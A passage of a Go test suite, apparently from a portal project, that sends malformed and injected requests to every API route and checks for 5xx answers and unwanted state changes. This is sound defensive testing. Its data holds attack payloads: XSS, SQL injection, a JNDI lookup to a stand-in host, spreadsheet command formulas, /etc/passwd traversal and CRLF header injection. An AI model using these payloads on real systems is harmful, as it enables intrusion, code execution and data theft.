package areas_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/guichet/guichet/shared/httpapi"
	"github.com/guichet/guichet/shared/httpapi/apitest"
	"github.com/guichet/guichet/shared/httpapi/areas"
	"github.com/guichet/guichet/shared/httpapi/orgadmin"
	"github.com/guichet/guichet/shared/portal"
	"github.com/guichet/guichet/shared/table"
)

// The hostile-input suite: every route the API serves (from its own list of
// patterns, so a new route is covered the day it is added) gets malformed,
// oversized, wrongly typed and injected requests, from an anonymous caller, a user,
// an administrator and an operator, each with a valid CSRF token. No answer may be
// a 5xx, and no refused request may change anything.
//
// State is the whole table, dumped after every request and compared with the
// state before the suite. A refused request may only have moved what counts
// refused requests: the rate-limit counters (COUNTER#), and the wrong-password
// count (and lock) of the account whose password a request got wrong. Sessions'
// idle times would legitimately move too, but the fake clock stands still, so they
// never do here. A request the server accepts is only allowed for a value that a
// field may hold as text (a script tag or a look-alike letter in a name is text to
// store and escape on output, not an attack to refuse) or an odd header it may
// ignore; what it wrote is then undone, as is every counter, so that every case
// starts from the same state.

// A sample is a well-formed request of a route that reads a body: its path with
// the wildcards filled, its JSON body, and the principal whose request reaches the
// body's checks. {user}, {login}, {contract}, {app} are filled from the fixture.
type sample struct {
	owner, path, body string
}

var samples = map[string]sample{
	"POST /api/v1/session":                   {anonymous, "", `{"email":"nobody@acme.example","password":"Guichet#Test2026"}`},
	"POST /api/v1/session/mfa":               {anonymous, "", `{"challenge":"no-such-challenge","code":"123456","recoveryCode":""}`},
	"POST /api/v1/session/passkey/finish":    {anonymous, "", `{"ceremony":"no-such-ceremony","credential":{"id":"x","type":"public-key"}}`},
	"POST /api/v1/session/mfa/passkey/begin": {anonymous, "", `{"challenge":"no-such-challenge"}`},
	"POST /api/v1/session/mfa/passkey/finish": {anonymous, "",
		`{"challenge":"no-such-challenge","credential":{"id":"x","type":"public-key"}}`},
	"POST /api/v1/me/passkeys/finish": {userNone, "", `{"ceremony":"no-such-ceremony","name":"My key","credential":{"id":"x"}}`},
	"DELETE /api/v1/me/passkeys/{id}": {userNone, "/api/v1/me/passkeys/no-such-passkey", `{"password":"Guichet#Test2026"}`},
	"PUT /api/v1/me": {userNone, "", `{"version":1,"civility":"Mme","firstName":"Zoé","lastName":"Martin","jobTitle":"Buyer",` +
		`"phone":"+33 1 23 45 67 89","lang":"fr","address":{"line1":"1 rue de la Paix","postalCode":"75002","city":"Paris","country":"FR"},` +
		`"landline":"","notificationEmail":""}`},
	"POST /api/v1/me/password":                   {userNone, "", `{"current":"Guichet#Test2026","new":"Another#Pass2026"}`},
	"POST /api/v1/me/email":                      {userNone, "", `{"newEmail":"zoe.new@acme.example","password":"Guichet#Test2026"}`},
	"POST /api/v1/me/email/confirm":              {userNone, "", `{"code":"123456"}`},
	"POST /api/v1/me/notification-email/confirm": {userNone, "", `{"code":"123456"}`},
	"POST /api/v1/me/totp/confirm":               {userNone, "", `{"code":"123456"}`},
	"POST /api/v1/me/totp/disable":               {userNone, "", `{"password":"Guichet#Test2026","code":"123456","recoveryCode":""}`},
	"POST /api/v1/me/totp/recovery-codes":        {userNone, "", `{"password":"Guichet#Test2026"}`},
	"POST /api/v1/me/company/contact":            {userNone, "", `{"subject":"A question","message":"Hello,\nplease call me."}`},
	"PUT /api/v1/me/company/security":            {admin, "", `{"mfaRequired":false}`},
	"POST /api/v1/password/forgot":               {anonymous, "", `{"email":"nobody@acme.example"}`},
	"POST /api/v1/password/reset":                {anonymous, "", `{"token":"no-such-token","password":"Another#Pass2026"}`},
	"POST /api/v1/account/unlock":                {anonymous, "", `{"token":"no-such-token","password":"Another#Pass2026"}`},
	"POST /api/v1/activation":                    {anonymous, "", `{"token":"no-such-token","password":"Another#Pass2026","firstName":"Zoé","lastName":"Martin"}`},
	"POST /api/v1/email/undo":                    {anonymous, "", `{"token":"no-such-token"}`},
	"POST /api/v1/activation/check":              {anonymous, "", `{"token":"no-such-token"}`},
	"POST /api/v1/signup":                        {anonymous, "", `{"email":"new.person@newco.example","lang":"fr"}`},
	"POST /api/v1/signup/verify":                 {anonymous, "", `{"email":"new.person@newco.example","code":"123456"}`},
	"POST /api/v1/signup/complete": {anonymous, "", `{"signupToken":"no-such-token","civility":"","firstName":"Zoé","lastName":"Martin",` +
		`"jobTitle":"","phone":"","lang":"fr","password":"Another#Pass2026","organisationId":"","newOrganisation":` +
		`{"legalName":"NewCo","registrationNo":"732829320","address":"1 rue de la Paix\n75002 Paris","country":"FR","website":"newco.example"}}`},
	"POST /api/v1/password/strength":                         {anonymous, "", `{"password":"Correct#Horse9","email":"zoe@acme.example","firstName":"Zoé","lastName":"Martin"}`},
	"POST /api/v1/org/join-requests/{id}/refuse":             {admin, "/api/v1/org/join-requests/{user}/refuse", `{"reason":"Not one of us"}`},
	"PUT /api/v1/org/join-settings":                          {admin, "", `{"autoApprove":true}`},
	"POST /api/v1/backoffice/freemail":                       {operatorAs, "", `{"domain":"freebie.example"}`},
	"PUT /api/v1/backoffice/domains/{domain}":                {operatorAs, "/api/v1/backoffice/domains/acme.example", `{"shared":true}`},
	"POST /api/v1/backoffice/domains/{domain}/organisations": {operatorAs, "/api/v1/backoffice/domains/acme.example/organisations", `{"organisationId":"acme"}`},
	"POST /api/v1/backoffice/registrations/{id}/refuse":      {operatorAs, "/api/v1/backoffice/registrations/{user}/refuse", `{"reason":"Unknown company"}`},
	"POST /api/v1/backoffice/organisations/{orgId}/contracts": {operatorAs, "/api/v1/backoffice/organisations/acme/contracts",
		`{"name":"Support","reference":"REF-NEW","offer":"Premium","start":"2026-01-01","end":"2027-12-31","referentId":"{user}","currency":"EUR"}`},
	"POST /api/v1/backoffice/applications": {operatorAs, "", `{"name":{"fr":"Appli","en":"App"},"description":{"fr":"Une appli","en":"An app"},` +
		`"approvalNeeded":true,"approver":"operators","durationDays":90,"instructions":{"fr":"Ouvrez-la","en":"Open it"},"archived":false}`},
	"PUT /api/v1/backoffice/applications/{id}": {operatorAs, "/api/v1/backoffice/applications/{app}", `{"name":{"fr":"Appli","en":"App"},` +
		`"description":{"fr":"Une appli","en":"An app"},"approvalNeeded":true,"approver":"customer_admins","durationDays":30,` +
		`"instructions":{"fr":"Ouvrez-la","en":"Open it"},"archived":false,"version":1}`},
	"POST /api/v1/me/access-requests":                {userNone, "", `{"applications":["{app}"],"comment":"For the new project"}`},
	"POST /api/v1/me/applications/{app}/extension":   {userNone, "/api/v1/me/applications/{app}/extension", `{"comment":"Still needed"}`},
	"POST /api/v1/access-requests/{number}/decision": {admin, "/api/v1/access-requests/REQ-2026-000001/decision", `{"decision":"approve","reason":""}`},
	"POST /api/v1/access-requests/decisions":         {admin, "", `{"numbers":["REQ-2026-000001"],"decision":"refuse","reason":"Not now"}`},
	"POST /api/v1/backoffice/access-requests/{number}/decision": {operatorAs, "/api/v1/backoffice/access-requests/REQ-2026-000001/decision",
		`{"decision":"approve","reason":""}`},
	"POST /api/v1/backoffice/access-requests/decisions": {operatorAs, "", `{"numbers":["REQ-2026-000001"],"decision":"refuse","reason":"Not now"}`},
	"POST /api/v1/backoffice/refusals/{org}/{user}/{app}/lift": {operatorAs, "/api/v1/backoffice/refusals/acme/{user}/{app}/lift",
		`{"reason":"Agreed with the customer"}`},
	"POST /api/v1/new-user-requests": {userNone, "", `{"email":"colleague@acme.example","firstName":"Côme","lastName":"Collègue","lang":"fr",` +
		`"applications":["{app}"],"comment":"A new colleague"}`},
	"POST /api/v1/org/users/validate": {admin, "", `{"email":"new.person@acme.example","login":"new.person","firstName":"Nina","lastName":"New"}`},
	"POST /api/v1/org/users": {admin, "", `{"email":"new.person@acme.example","login":"new.person","role":"user","firstName":"Nina","lastName":"New",` +
		`"lang":"en","sendActivation":true,"contracts":[{"contractId":"{contract}","sections":{"orders":"manager"},"supported":true}]}`},
	"PUT /api/v1/org/users/{id}":                    {admin, "/api/v1/org/users/{user}", `{"version":1,"firstName":"Changed","lastName":"Name","lang":"fr"}`},
	"PUT /api/v1/org/users/{id}/role":               {admin, "/api/v1/org/users/{user}/role", `{"role":"admin"}`},
	"POST /api/v1/org/users/{id}/email":             {admin, "/api/v1/org/users/{user}/email", `{"email":"moved@acme.example"}`},
	"PUT /api/v1/org/users/{id}/notification-email": {admin, "/api/v1/org/users/{user}/notification-email", `{"email":"notices@acme.example"}`},
	"DELETE /api/v1/org/users/{id}":                 {admin, "/api/v1/org/users/{user}", `{"confirm":"{login}"}`},
	"PUT /api/v1/org/contracts/{id}/rights": {admin, "/api/v1/org/contracts/{contract}/rights",
		`{"changes":[{"userId":"{user}","version":0,"sections":{"orders":"visitor","invoices":"manager"},"supported":true}]}`},
	"PUT /api/v1/org/contracts/{id}/referent":        {admin, "/api/v1/org/contracts/{contract}/referent", `{"userId":"{user}","version":1}`},
	"POST /api/v1/impersonation":                     {operatorAs, "", `{"userId":"{user}","orgId":"acme","reason":"Support case 42"}`},
	"POST /api/v1/org/audit/exports":                 {admin, "", `{"action":"rights.update","user":"","from":"2026-01-01","to":"2026-12-31"}`},
	"POST /api/v1/me/closure":                        {userNone, "", `{"comment":"Leaving the company"}`},
	"POST /api/v1/org/closure-requests/{id}/decline": {admin, "/api/v1/org/closure-requests/{user}/decline", `{"reason":"Contract in progress"}`},
	"POST /api/v1/org/users/{id}/applications":       {admin, "/api/v1/org/users/{user}/applications", `{"application":"{app}"}`},
	"PUT /api/v1/me/notification-preferences":        {userNone, "", `{"mail":{"budget_threshold":false,"outage_started":true},"version":0}`},
	"PUT /api/v1/contracts/{id}/budget":              {admin, "/api/v1/contracts/{contract}/budget", `{"amount":"1250.50"}`},
	"PUT /api/v1/backoffice/organisations/{orgId}/contracts/{id}/consumption": {operatorAs, "/api/v1/backoffice/organisations/acme/contracts/{contract}/consumption",
		`{"month":"2026-11","amount":"980.25"}`},
	"POST /api/v1/backoffice/organisations/{orgId}/contracts/{id}/documents": {operatorAs, "/api/v1/backoffice/organisations/acme/contracts/{contract}/documents",
		`{"title":"Contrat cadre","category":"contract","date":"2026-01-15","filename":"contrat.pdf","size":1234,"contentType":"application/pdf"}`},
	"POST /api/v1/backoffice/organisations/{orgId}/contracts/{id}/consoles": {operatorAs, "/api/v1/backoffice/organisations/acme/contracts/{contract}/consoles",
		`{"name":"Cloud","url":"https://cloud.example.com/acme","description":{"fr":"Vos machines","en":"Your machines"}}`},
	"PUT /api/v1/backoffice/organisations/{orgId}/contracts/{id}/consoles/{consoleId}": {operatorAs,
		"/api/v1/backoffice/organisations/acme/contracts/{contract}/consoles/01NOSUCHTHING0000000000000",
		`{"name":"Cloud","url":"https://cloud.example.com/acme","description":{"fr":"Vos machines","en":"Your machines"},"version":1}`},
}

// csvRoute takes a CSV file rather than JSON; it gets its own malformed files.
const csvRoute = "POST /api/v1/org/users/import"

// bodilessActions change state and read nothing from the request but the session:
// any request that passes the session and CSRF checks is a valid one. They only
// get the variants that must be refused before the action (a foreign origin, a
// wrong CSRF token, a forged session cookie).
var bodilessActions = map[string]bool{
	"DELETE /api/v1/session": true, "DELETE /api/v1/impersonation": true, "POST /api/v1/me/passkeys/begin": true,
	"POST /api/v1/me/sessions/revoke-others": true, "POST /api/v1/me/totp/start": true, "POST /api/v1/session/passkey/begin": true,
	"POST /api/v1/me/closure/withdraw":    true,
	"POST /api/v1/notifications/read-all": true,
}

// multiline are the fields whose text may hold line breaks.
var multiline = map[string]bool{"comment": true, "message": true, "reason": true, "newOrganisation.address": true,
	"description.fr": true, "description.en": true, "instructions.fr": true, "instructions.en": true}

// A hostile value for a string field, and whether a field may store it as text.
type hostile struct {
	name, value string
	text        bool // a free-text field may hold it
	lineBreaks  bool // text, but only for multiline fields
}

var hostileValues = []hostile{
	{"script", `<script>alert(document.cookie)</script>`, true, false},
	{"img-onerror", `"><img src=x onerror=alert(1)>`, true, false},
	{"crlf", "Zoé\r\nBcc: victim@example.com", false, true},
	{"traversal", "../../../../etc/passwd", true, false},
	{"encoded-traversal", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", true, false},
	{"confusable", "аdmin@аcme.example", true, false}, // Cyrillic а
	{"rtl-override", "Zoé\u202egnp.exe", false, false},
	{"nul", "zoe\x00martin", false, false},
	{"escape", "\x1b[31mred\x1b[0m", false, false},
	{"very-long", strings.Repeat("A", 100_000), false, false},
	{"sql", `' OR '1'='1' --`, true, false},
	{"template", "{{.Secret}} ${jndi:ldap://x.example/a}", true, false},
	{"formula", `=HYPERLINK("http://x.example","click")`, true, false},
	{"empty", "", true, false},
	{"blank", "   ", true, false},
	{"emoji-zwj", "👩\u200d💻e\u0301", true, false},
}

// hostilePath are wildcard values, already escaped for the path.
var hostilePath = []string{
	"../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e", "%00", strings.Repeat("a", 63) + "%00", strings.Repeat("%ff", 64),
	"%0d%0aSet-Cookie:%20x=y", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%D0%B0cme", "%E2%80%AEtxt.exe", "acme%23USER%23x",
	strings.Repeat("a", 5000), "-1", "99999999999999999999999", "%EF%BC%8E%EF%BC%8E", "%C0%AE%C0%AE",
}

// hostileQuery are query strings for the lists, already escaped.
var hostileQuery = []string{
	"q=%3Cscript%3E", "q=" + strings.Repeat("x", 10_000), "q=%ff%fe", "q=%00", "cursor=garbage", "cursor=%00.%00",
	"cursor=" + strings.Repeat("A", 3000) + ".x", "limit=-1", "limit=0", "limit=99999999999999999999", "limit=abc",
	"state=%ff", "state=..%2f..", "user=%00", "user=" + strings.Repeat("%ff", 64), "action=%0d%0a", "from=2026-13-45&to=x",
	"kind=%3Cscript%3E", "status=%E2%80%AE", "dryRun=maybe", "q=a&q=b&limit=1&limit=2",
}

// noType sends a body without a Content-Type header.
const noType = "(none)"

// malformedBodies are bodies no JSON route may accept, with their content type.
func malformedBodies(sampleBody string) []struct{ name, ctype, body string } {
	first := `"x"`
	if i := strings.Index(sampleBody, `"`); i >= 0 {
		if j := strings.Index(sampleBody[i+1:], `"`); j >= 0 {
			first = sampleBody[i : i+j+2]
		}
	}
	if sampleBody == "" {
		sampleBody = `{}`
	}
	json := "application/json"
	return []struct{ name, ctype, body string }{
		{"truncated", json, sampleBody[:len(sampleBody)/2]},
		{"unclosed", json, `{"a":`},
		{"trailing-comma", json, `{"a":1,}`},
		{"single-quotes", json, `{'a':'b'}`},
		{"array", json, `[` + sampleBody + `]`},
		{"string", json, `"just a string"`},
		{"number", json, `12345`},
		{"null", json, `null`},
		{"unknown-field", json, strings.Replace(sampleBody, "{", `{"isAdmin":true,`, 1)},
		{"proto", json, `{"__proto__":{"role":"admin"},"constructor":{"prototype":{}}}`},
		{"trailing-data", json, sampleBody + ` {"role":"admin"}`},
		{"empty", json, ``},
		{"oversized", json, `{` + first + `:"` + strings.Repeat("A", httpapi.MaxBodyBytes) + `"}`},
		{"deep", json, strings.Repeat(`[`, 10_001)}, // one past the decoder's nesting limit
		{"huge-number", json, `{` + first + `:1e999999}`},
		{"invalid-utf8", json, inject(sampleBody, "\xff\xfe")},
		{"raw-nul", json, inject(sampleBody, "\x00")},
		{"bom", json, "\xef\xbb\xbf" + sampleBody},
		{"text-plain", "text/plain", sampleBody},
		{"form", "application/x-www-form-urlencoded", "email=a%40b.example&role=admin"},
		{"multipart", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--\r\n"},
		{"no-type", noType, sampleBody},
		{"utf16", "application/json; charset=utf-16", sampleBody},
		{"jsonx", "application/jsonx", sampleBody},
		{"bad-type", "application/json; ;;==", sampleBody},
	}
}

// inject puts raw bytes into the first string of a JSON body, or into a new key
// when it has no string value.
func inject(body, raw string) string {
	if strings.Contains(body, `":"`) {
		return strings.Replace(body, `":"`, `":"`+raw, 1)
	}
	return strings.Replace(body, "{", `{"`+raw+`":1,`, 1)
}

// malformedCSV are import files no import may accept as people.
var malformedCSV = []struct{ name, body string }{
	{"empty", ""},
	{"header-only", "email,login,firstName,lastName\n"},
	{"unknown-columns", "mail,user\nx,y\n"},
	{"unterminated-quote", "email,login,firstName,lastName\n\"zoe@acme.example,zoe.martin,Z,M\n"},
	{"invalid-utf8", "email,login,firstName,lastName\n\xff\xfe,x,y,z\n"},
	{"crlf-and-nul", "email,login,firstName,lastName\r\nzoe\x00@acme.example,zoe.martin,\"Zoé\r\nBcc: x\",Martin\r\n"},
	{"formulas", "email,login,firstName,lastName\n=cmd|' /C calc'!A0,@SUM(A1),+1,-1\n"},
	{"too-many-rows", "email,login,firstName,lastName\n" + strings.Repeat("bad,bad,x,y\n", orgadmin.MaxImportRows+1)},
	{"oversized", "email,login,firstName,lastName\n" + strings.Repeat("x", httpapi.MaxBodyBytes)},
	{"json", `{"email":"zoe@acme.example"}`},
}

// hostileCase is one request of the suite.
type hostileCase struct {
	who, kind, name      string
	method, target, body string
	ctype                string
	headers              []string
	mayAccept            bool
}

// badFixture is acme with an administrator, a plain user and a contract, an
// operator, and an application in the catalog; each principal is signed in.
type badFixture struct {
	e *apitest.Env
	// srv serves the suite without logging each of its requests.
	srv      *httpapi.Server
	browsers map[string]apitest.As
	user     portal.User
	contract portal.Contract
	baseline map[table.Key]table.Item
}

// badSetups add what an area's samples need to the fixture (its own items), from
// the area's own test file.
var badSetups []func(t *testing.T, f *badFixture)

func newBadFixture(t *testing.T) *badFixture {
	e := apitest.NewEnv(t)
	acme := e.Tenant("acme")
	f := &badFixture{e: e, contract: acme.Contract, browsers: map[string]apitest.As{anonymous: {}, admin: acme.AdminB}}
	f.user = e.Person("acme", portal.RoleUser, "Zoé", "Martin", "zoe@acme.example")
	f.browsers[userNone] = e.Browser(f.user.Email, apitest.StaffPW)
	op := e.Person(portal.VendorOrg, portal.RoleOperator, "Olivia", "Op", "operator@guichet.example")
	f.browsers[operatorAs] = e.Browser(op.Email, apitest.StaffPW)
	app := portal.Application{ID: "app-one", Name: portal.Text{FR: "Appli", EN: "App"}, ApprovalNeeded: true, Approver: portal.ApproverCustomerAdmins,
		Created: e.Clock.Now(), Updated: e.Clock.Now()}
	if err := e.Store.CreateApplication(context.Background(), app); err != nil {
		t.Fatal(err)
	}
	for _, setup := range badSetups {
		setup(t, f)
	}
	e.Deps.Log = slog.New(slog.DiscardHandler)
	// As in AWS, the caller's address comes from CloudFront's header, which a client
	// can forge when it reaches the API directly.
	e.Deps.ClientIPHeader = "CloudFront-Viewer-Address"
	f.srv = httpapi.New(e.Deps, areas.All())
	f.baseline = f.state(t)
	return f
}

func (f *badFixture) fill(s string) string {
	return strings.NewReplacer("{user}", f.user.ID, "{login}", f.user.Login, "{contract}", f.contract.ID, "{app}", "app-one").Replace(s)
}

// state is every item of the table by key.
func (f *badFixture) state(t *testing.T) map[table.Key]table.Item {
	items, err := f.e.DB.Dump(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	out := make(map[table.Key]table.Item, len(items))
	for _, it := range items {
		out[it.Key()] = it
	}
	return out
}

// diff lists the keys whose items differ from the baseline; significant reports
// whether any of them changed more than what refused requests may move.
func (f *badFixture) diff(now map[table.Key]table.Item) (changed []table.Key, significant bool) {
	same := func(a, b table.Item) bool {
		return a.GSI1PK == b.GSI1PK && a.GSI1SK == b.GSI1SK && a.GSI2PK == b.GSI2PK && a.GSI2SK == b.GSI2SK &&
			a.TTL == b.TTL && a.Version == b.Version && bytes.Equal(a.Data, b.Data)
	}
	for k, it := range now {
		old, ok := f.baseline[k]
		if ok && same(old, it) {
			continue
		}
		changed = append(changed, k)
		if !strings.HasPrefix(k.PK, "COUNTER#") && !(ok && strings.HasPrefix(k.SK, "USER#") && sansLockout(old.Data) == sansLockout(it.Data)) {
			significant = true
		}
	}
	for k := range f.baseline {
		if _, ok := now[k]; !ok {
			changed, significant = append(changed, k), true
		}
	}
	sort.Slice(changed, func(i, j int) bool { return changed[i].PK+changed[i].SK < changed[j].PK+changed[j].SK })
	return changed, significant
}

// sansLockout is an account without its count of wrong passwords and its lock.
func sansLockout(data []byte) string {
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		return string(data)
	}
	delete(m, "failedSignIns")
	delete(m, "lockedUntil")
	delete(m, "locks")
	b, _ := json.Marshal(m)
	return string(b)
}

// restore writes the baseline back over the changed keys.
func (f *badFixture) restore(t *testing.T, changed []table.Key) {
	ctx := context.Background()
	tb := f.e.Store.Table()
	for _, k := range changed {
		var err error
		if old, ok := f.baseline[k]; ok {
			err = tb.Put(ctx, old, table.Cond{})
		} else {
			err = tb.Delete(ctx, k, table.Cond{})
		}
		if err != nil {
			t.Fatalf("restore %s/%s: %v", k.PK, k.SK, err)
		}
	}
}

// send makes one request and returns the status and the body.
func (f *badFixture) send(t *testing.T, c hostileCase) (int, string) {
	u, err := url.ParseRequestURI(c.target)
	if err != nil {
		t.Fatalf("%s: the suite built a target no client can send: %q: %v", c.name, c.target, err)
	}
	req := httptest.NewRequest(c.method, "/", strings.NewReader(c.body))
	req.URL, req.RequestURI = u, c.target
	req.RemoteAddr = f.e.IP + ":5555"
	req.Header.Set("User-Agent", "hostile-input-suite")
	if c.ctype != noType {
		req.Header.Set("Content-Type", c.ctype)
	}
	if b := f.browsers[c.who]; b.Token != "" {
		req.AddCookie(&http.Cookie{Name: httpapi.SessionCookie, Value: b.Token})
		req.Header.Set(httpapi.CSRFHeader, b.CSRF)
	}
	for i := 0; i+1 < len(c.headers); i += 2 {
		req.Header.Set(c.headers[i], c.headers[i+1])
	}
	rec := httptest.NewRecorder()
	f.srv.ServeHTTP(rec, req)
	return rec.Code, rec.Body.String()
}

var wildcard = regexp.MustCompile(`\{[A-Za-z]+\}`)

// leafMutations returns copies of a JSON body, each with one value replaced: by
// every hostile string (string fields), by values of the wrong type, by extreme
// numbers, by oversized arrays, and with an unknown field added to each object.
func leafMutations(body string) []hostileCase {
	var root any
	dec := json.NewDecoder(strings.NewReader(body))
	dec.UseNumber()
	if err := dec.Decode(&root); err != nil {
		panic(fmt.Sprintf("sample body %s: %v", body, err))
	}
	var out []hostileCase
	var walk func(path string, v any, set func(any))
	walk = func(path string, v any, set func(any)) {
		emit := func(name, kind string, repl any, mayAccept bool) {
			set(repl)
			b, err := marshal(root)
			set(v)
			if err != nil {
				panic(err)
			}
			out = append(out, hostileCase{kind: kind, name: path + ":" + name, body: b, mayAccept: mayAccept})
		}
		field := strings.TrimPrefix(path, ".")
		switch x := v.(type) {
		case string:
			for _, h := range hostileValues {
				emit(h.name, "value", h.value, h.text || (h.lineBreaks && multiline[field]))
			}
			for _, w := range []any{json.Number("1"), true, []any{}, map[string]any{}} {
				emit(fmt.Sprintf("type-%T", w), "type", w, false)
			}
		case json.Number:
			// Numbers are versions and counts: "-0" is a version 0 that may be the
			// current one, and the others must be refused or conflict.
			for _, n := range []string{"-1", "1e30", "9223372036854775808", "1.5", "-0"} {
				emit("number"+n, "value", json.Number(n), n == "-0")
			}
			for _, w := range []any{"1", true, []any{}, map[string]any{}} {
				emit(fmt.Sprintf("type-%T", w), "type", w, false)
			}
		case bool:
			for _, w := range []any{"true", json.Number("1"), []any{}} {
				emit(fmt.Sprintf("type-%T", w), "type", w, false)
			}
		case []any:
			for i := range x {
				walk(fmt.Sprintf("%s[%d]", path, i), x[i], func(n any) { x[i] = n })
			}
			many := make([]any, 5000)
			for i := range many {
				many[i] = "x"
				if len(x) > 0 {
					many[i] = x[0]
				}
			}
			emit("5000-copies", "value", many, true) // the same element again and again: one is kept, or the list refused
			emit("object-for-array", "type", map[string]any{"0": "x"}, false)
			emit("string-for-array", "type", "x", false)
		case map[string]any:
			keys := make([]string, 0, len(x))
			for k := range x {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			for _, k := range keys {
				walk(path+"."+k, x[k], func(n any) { x[k] = n })
			}
			if path != "" {
				emit("array-for-object", "type", []any{x}, false)
				emit("string-for-object", "type", "x", false)
			}
			x["unexpected"] = true
			b, _ := marshal(root)
			delete(x, "unexpected")
			out = append(out, hostileCase{kind: "type", name: path + ":unknown-field", body: b})
		}
	}
	walk("", root, func(any) {})
	return out
}

// marshal writes JSON without escaping HTML characters, as a hostile client would.
func marshal(v any) (string, error) {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	err := enc.Encode(v)
	return strings.TrimSuffix(b.String(), "\n"), err
}

// cases builds every request of the suite for one route.
func (f *badFixture) cases(pattern string) []hostileCase {
	method, tmpl, _ := strings.Cut(pattern, " ")
	s, hasSample := samples[pattern]
	body := f.fill(s.body)
	everyone := []string{anonymous, userNone, admin, operatorAs}
	var out []hostileCase
	add := func(c hostileCase, who ...string) {
		c.method = method
		if c.ctype == "" && c.body != "" {
			c.ctype = "application/json"
		}
		for _, w := range who {
			c.who = w
			out = append(out, c)
		}
	}
	// Where the route's own path is needed: the sample's, or the pattern with a
	// wildcard value that names nothing.
	own := tmpl
	if hasSample && s.path != "" {
		own = f.fill(s.path)
	}
	own = wildcard.ReplaceAllString(own, "01NOSUCHTHING0000000000000")

	// Headers that must be refused before any action, for every route.
	if method != "GET" {
		add(hostileCase{kind: "header", name: "foreign-origin", target: own, body: body, headers: []string{"Origin", "https://evil.example"}}, everyone...)
		add(hostileCase{kind: "header", name: "wrong-csrf", target: own, body: body, headers: []string{httpapi.CSRFHeader, "forged"}}, userNone, admin, operatorAs)
		add(hostileCase{kind: "header", name: "no-csrf", target: own, body: body, headers: []string{httpapi.CSRFHeader, ""}}, userNone, admin, operatorAs)
	}
	// A forged session is no session, and a language nobody speaks is French: the
	// request is then what it would be without them, and may be accepted.
	add(hostileCase{kind: "header", name: "forged-cookie", target: own, body: body, mayAccept: true,
		headers: []string{"Cookie", httpapi.SessionCookie + "=" + strings.Repeat("A", 200) + "; lang=%3Cscript%3E"}}, anonymous)
	add(hostileCase{kind: "header", name: "accept-language", target: own, body: body, mayAccept: true,
		headers: []string{"Accept-Language", strings.Repeat("xx-ÿÿ;q=abc,", 500)}}, anonymous)
	add(hostileCase{kind: "header", name: "odd-headers", target: own, body: body, mayAccept: true,
		headers: []string{"X-Signup-Token", "../../" + strings.Repeat("\xff", 300), "X-Forwarded-For", "<script>, 999.1.1.1, ::ffff:zz",
			"CloudFront-Viewer-Address", "[::1]:-1"}}, anonymous)
	// A client address is dropped when it is not a plain address: it must never
	// reach a table key, a log line or an export.
	for _, v := range oddClientAddresses {
		add(hostileCase{kind: "header", name: "client-address:" + v, target: own, body: body, mayAccept: true,
			headers: []string{"CloudFront-Viewer-Address", v}}, anonymous, userNone)
	}
	if bodilessActions[pattern] {
		return out
	}
	// Wildcards: every hostile value in each.
	if wildcard.MatchString(tmpl) {
		for _, v := range hostilePath {
			add(hostileCase{kind: "path", name: "path:" + v[:min(len(v), 24)], target: wildcard.ReplaceAllString(tmpl, v), body: body}, everyone...)
		}
	}
	switch {
	case pattern == csvRoute:
		for _, m := range malformedCSV {
			add(hostileCase{kind: "malformed", name: "csv:" + m.name, target: own, body: m.body, ctype: "text/csv"}, everyone...)
		}
		add(hostileCase{kind: "malformed", name: "csv:as-json", target: own, body: "email,login\n", ctype: "application/json"}, everyone...)
	case method != "GET":
		for _, m := range malformedBodies(body) {
			who := everyone
			if m.name == "oversized" {
				// A megabyte read under the race detector is slow; the others are
				// turned away before their body is read anyway.
				who = []string{ownerOf(s)}
			}
			add(hostileCase{kind: "malformed", name: m.name, target: own, body: m.body, ctype: m.ctype}, who...)
		}
	case !wildcard.MatchString(tmpl):
		for _, q := range hostileQuery {
			add(hostileCase{kind: "query", name: "query:" + q[:min(len(q), 24)], target: tmpl + "?" + q}, everyone...)
		}
	}
	if hasSample {
		for _, m := range leafMutations(body) {
			m.target = own
			add(m, s.owner)
		}
	}
	return out
}

// oddClientAddresses are viewer addresses a client may forge: zones (one not
// UTF-8, one a spreadsheet formula), an address without its port, a list, a
// bracketed address with a bad port and plain junk.
var oddClientAddresses = []string{"fe80::1%\xff\xfe:443", "fe80::1%x;=1+1;@SUM(2+2):443", "203.0.113.9", "203.0.113.9:1, 198.51.100.1:2",
	"[::1]:99999", "\x00\r\n=cmd|' /C calc'!A0"}

// ownerOf is the principal whose requests reach a route's checks: the sample's, or
// an administrator, who may act on the most routes.
func ownerOf(s sample) string {
	if s.owner != "" {
		return s.owner
	}
	return admin
}

// controlInJSON finds, in what an accepted request wrote, a control character other
// than a line break or a tab, as JSON escapes it.
var controlInJSON = regexp.MustCompile(`\\u00(0[0-8bcef]|1[0-9a-f]|7f)|\\u008[0-9a-f]|\\u009[0-9a-f]`)

func TestHostileInputAcrossEveryRoute(t *testing.T) {
	f := newBadFixture(t)
	patterns := f.srv.Patterns()
	for p := range samples {
		if !contains(patterns, p) && p != csvRoute {
			t.Errorf("sample for %s, which the API does not serve", p)
		}
	}
	requests, accepted := 0, 0
	byKind := map[string]int{}
	routes := 0
	for _, pattern := range patterns {
		method, tmpl, _ := strings.Cut(pattern, " ")
		if _, ok := samples[pattern]; !ok && method != "GET" && !bodilessActions[pattern] && !wildcard.MatchString(tmpl) && pattern != csvRoute {
			t.Errorf("%s reads a body, or acts: give it a sample, or list it as a bodiless action", pattern)
		}
		routes++
		for _, c := range f.cases(pattern) {
			requests++
			byKind[c.kind]++
			code, body := f.send(t, c)
			what := fmt.Sprintf("%s %s [%s %s as %s]", c.method, c.target[:min(len(c.target), 120)], c.kind, c.name, c.who)
			if code >= 500 {
				t.Errorf("%s: %d %.300s", what, code, body)
			}
			if strings.Contains(body, "<script") && !strings.HasSuffix(tmpl, ".csv") {
				t.Errorf("%s: the answer holds a raw script tag: %.300s", what, body)
			}
			changed, significant := f.diff(f.state(t))
			if !significant {
				f.restore(t, changed)
				continue
			}
